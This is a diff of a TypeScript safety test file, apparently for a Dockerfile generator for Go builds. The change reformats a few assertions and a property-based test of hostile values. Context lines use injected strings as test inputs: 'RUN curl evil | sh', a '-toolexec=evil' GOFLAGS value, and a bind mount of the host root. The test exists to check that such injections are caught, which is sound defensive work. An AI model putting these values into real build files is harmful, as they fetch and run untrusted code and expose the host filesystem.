@@ -25,14 +25,19 @@ describe('the oracle cannot pass by accident', () => {
     expect(skeleton(base.replace('direct', 'direct\nRUN curl evil | sh'))).not.toEqual(skeleton(base));
     expect(skeleton(base.replace('direct', 'direct GOFLAGS=-toolexec=evil'))).not.toEqual(skeleton(base));
     expect(skeleton(base.replace('direct', 'direct \\'))).not.toEqual(skeleton(base));
-    expect(skeleton(base.replace('--mount=type=cache,target=/go', '--mount=type=cache,target=/go --mount=type=bind,source=/,target=/h'))).not.toEqual(skeleton(base));
+    expect(
+      skeleton(base.replace('--mount=type=cache,target=/go', '--mount=type=cache,target=/go --mount=type=bind,source=/,target=/h')),
+    ).not.toEqual(skeleton(base));
   });
 });
 
 describe(`hostile values in every field (seed ${SEED}, ${CASES_PER_FIELD} cases per field)`, () => {
   it.each(FIELDS.map((field) => field.name))('%s', async (name) => {
     const result = await runProperty(SEED, CASES_PER_FIELD, baselines, [name]);
-    const reports = result.wrong.map((wrong) => `case ${wrong.caseNumber} of field seed ${wrong.seed}: ${wrong.detail}\n  value: ${JSON.stringify(wrong.value).slice(0, 400)}\n  reproduce: CGD_SAFETY_SEED=${SEED} npx vitest run test/safety.test.ts -t ${JSON.stringify(name)}`);
+    const reports = result.wrong.map(
+      (wrong) =>
+        `case ${wrong.caseNumber} of field seed ${wrong.seed}: ${wrong.detail}\n  value: ${JSON.stringify(wrong.value).slice(0, 400)}\n  reproduce: CGD_SAFETY_SEED=${SEED} npx vitest run test/safety.test.ts -t ${JSON.stringify(name)}`,
+    );
     expect(reports).toEqual([]);
     expect(result.refused + result.correct).toBeGreaterThan(0);
   });
